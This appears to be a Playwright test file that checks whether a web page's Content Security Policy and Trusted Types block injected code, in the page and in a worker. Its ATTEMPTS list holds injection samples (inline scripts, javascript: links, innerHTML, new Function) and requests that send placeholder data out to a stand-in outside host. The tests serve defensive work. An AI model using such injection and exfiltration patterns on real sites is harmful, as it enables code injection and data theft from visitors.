/** The built page's policy holds on a host without headers. That nothing of the page's own offends it is part of every test. */
import { expect, type Worker } from "@playwright/test";
import { ModelLoading, startTinySite } from "../support/modelLoading.ts";
import type { Site } from "../support/site.ts";
import { test } from "../support/test.ts";

test.use({ serviceWorkers: "allow" });

let site: Site;

test.beforeAll(async () => {
  site = await startTinySite({ isolated: false });
});

test.afterAll(() => site.close());

/** What injected code would try in the page; evaluated there. Each sets `succeeded` when it gets through. */
const ATTEMPTS: readonly { readonly what: string; readonly directive: string; readonly attempt: () => unknown }[] = [
  {
    what: "an inline script",
    directive: "require-trusted-types-for",
    attempt: () => {
      const script = document.createElement("script");
      script.text = "globalThis.succeeded = true";
      document.body.append(script);
    },
  },
  {
    what: "an inline event handler",
    directive: "require-trusted-types-for",
    attempt: () => {
      document.body.setAttribute("onclick", "globalThis.succeeded = true");
      document.body.click();
    },
  },
  {
    what: "a link that is code",
    directive: "script-src-elem",
    attempt: () => {
      const link = document.createElement("a");
      link.href = "javascript:globalThis.succeeded = true";
      document.body.append(link);
      link.click();
    },
  },
  {
    what: "a script of another origin",
    directive: "require-trusted-types-for",
    attempt: () => {
      const script = document.createElement("script");
      script.src = "https://elsewhere.test/script.js";
      document.body.append(script);
    },
  },
  {
    what: "text as code",
    directive: "require-trusted-types-for",
    // Later, because what the browser's tools evaluate is exempt.
    attempt: () => void setTimeout(() => new Function("globalThis.succeeded = true")()),
  },
  {
    what: "text as markup",
    directive: "require-trusted-types-for",
    attempt: () => {
      document.body.innerHTML = "<p>injected</p>";
      globalThis.succeeded = true;
    },
  },
  {
    what: "a worker from text",
    directive: "require-trusted-types-for",
    attempt: () => new Worker(URL.createObjectURL(new Blob(["0"]))),
  },
  {
    what: "a request to another origin",
    directive: "connect-src",
    attempt: () => fetch("https://elsewhere.test/?text", { mode: "no-cors" }),
  },
  {
    what: "a beacon",
    directive: "connect-src",
    attempt: () => navigator.sendBeacon("https://elsewhere.test/", "text"),
  },
  {
    what: "an image of another origin",
    directive: "img-src",
    attempt: () => {
      new Image().src = "https://elsewhere.test/?text";
    },
  },
  {
    what: "a frame",
    directive: "frame-src",
    attempt: () => {
      const frame = document.createElement("iframe");
      frame.src = "https://elsewhere.test/?text";
      document.body.append(frame);
    },
  },
  {
    what: "a style of another origin",
    directive: "style-src-elem",
    attempt: () => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = "https://elsewhere.test/?text";
      document.body.append(link);
    },
  },
  {
    what: "a form sent elsewhere",
    directive: "form-action",
    attempt: () => {
      const form = document.createElement("form");
      form.action = "https://elsewhere.test/";
      document.body.append(form);
      form.submit();
    },
  },
];

declare global {
  var succeeded: boolean | undefined;
}

test("nothing injected into the page runs or reaches another origin", async ({ page, context, violations }) => {
  const reached: string[] = [];
  await context.route("https://elsewhere.test/**", async (route) => {
    reached.push(route.request().url());
    await route.abort();
  });
  // Without headers the page loads once more: before that, nothing holds still.
  await new ModelLoading(page).openThroughServiceWorker(site);
  for (const { what, directive, attempt } of ATTEMPTS) {
    violations.length = 0;
    const error = await page.evaluate(attempt).catch((caught) => String(caught));
    const refusal = () => violations.find((text) => text.startsWith(directive)) ?? error ?? "";
    await expect.poll(refusal, { message: what }).toMatch(new RegExp(`^${directive}|outside the page's folder`));
    expect(await page.evaluate(() => globalThis.succeeded), what).toBeUndefined();
  }
  violations.length = 0;
  expect(reached).toEqual([]);
});

test("nor does anything in a worker", async ({ page, violations }) => {
  const model = new ModelLoading(page);
  await model.openThroughServiceWorker(site, "wasm-threads");
  await model.startAndWait();
  await model.expectScoredOn(/WASM · [2-8] threads/);
  expect(violations).toEqual([]);
  const worker = page.workers().find((one) => /wasm\.worker/.test(one.url())) as Worker;
  for (const attempt of [
    () => fetch("https://elsewhere.test/?text", { mode: "no-cors" }),
    () => new Worker("https://elsewhere.test/worker.js"),
    // Later, because what the browser's tools evaluate is exempt.
    () =>
      new Promise((resolve, reject) =>
        setTimeout(() => {
          try {
            resolve(new Function("return 1")());
          } catch (error) {
            reject(error);
          }
        }),
      ),
  ])
    await expect(worker.evaluate(attempt)).rejects.toThrow(
      /Failed to fetch|refused|Content Security Policy|TrustedScript/,
    );
  violations.length = 0;
});

test("a file from an address that the visitor typed is brought by one worker, while the page can ask no other origin", async ({
  page,
  context,
  violations,
}) => {
  const asked: string[] = [];
  await context.route("https://elsewhere.test/**", async (route) => {
    asked.push(new URL(route.request().url()).pathname);
    const body = '{"rewards": [[1, 2, 3, 4, 5], [5, 4, 3, 2, 1]]}';
    await route.fulfill({ headers: { "Access-Control-Allow-Origin": "*" }, body });
  });
  await new ModelLoading(page).openThroughServiceWorker(site);
  await page.getByRole("link", { name: "Set" }).click();
  await page.getByRole("textbox", { name: "Or the address of a file" }).fill("https://elsewhere.test/one.jsonl");
  await page.getByRole("button", { name: "Fetch it" }).click();
  await expect(page.getByText("one.jsonl: 1 pair")).toBeVisible();
  expect(violations).toEqual([]);
  await expect(page.evaluate(() => fetch("https://elsewhere.test/two.jsonl"))).rejects.toThrow(/Failed to fetch/);
  expect(asked).toEqual(["/one.jsonl"]);
  violations.length = 0;
});
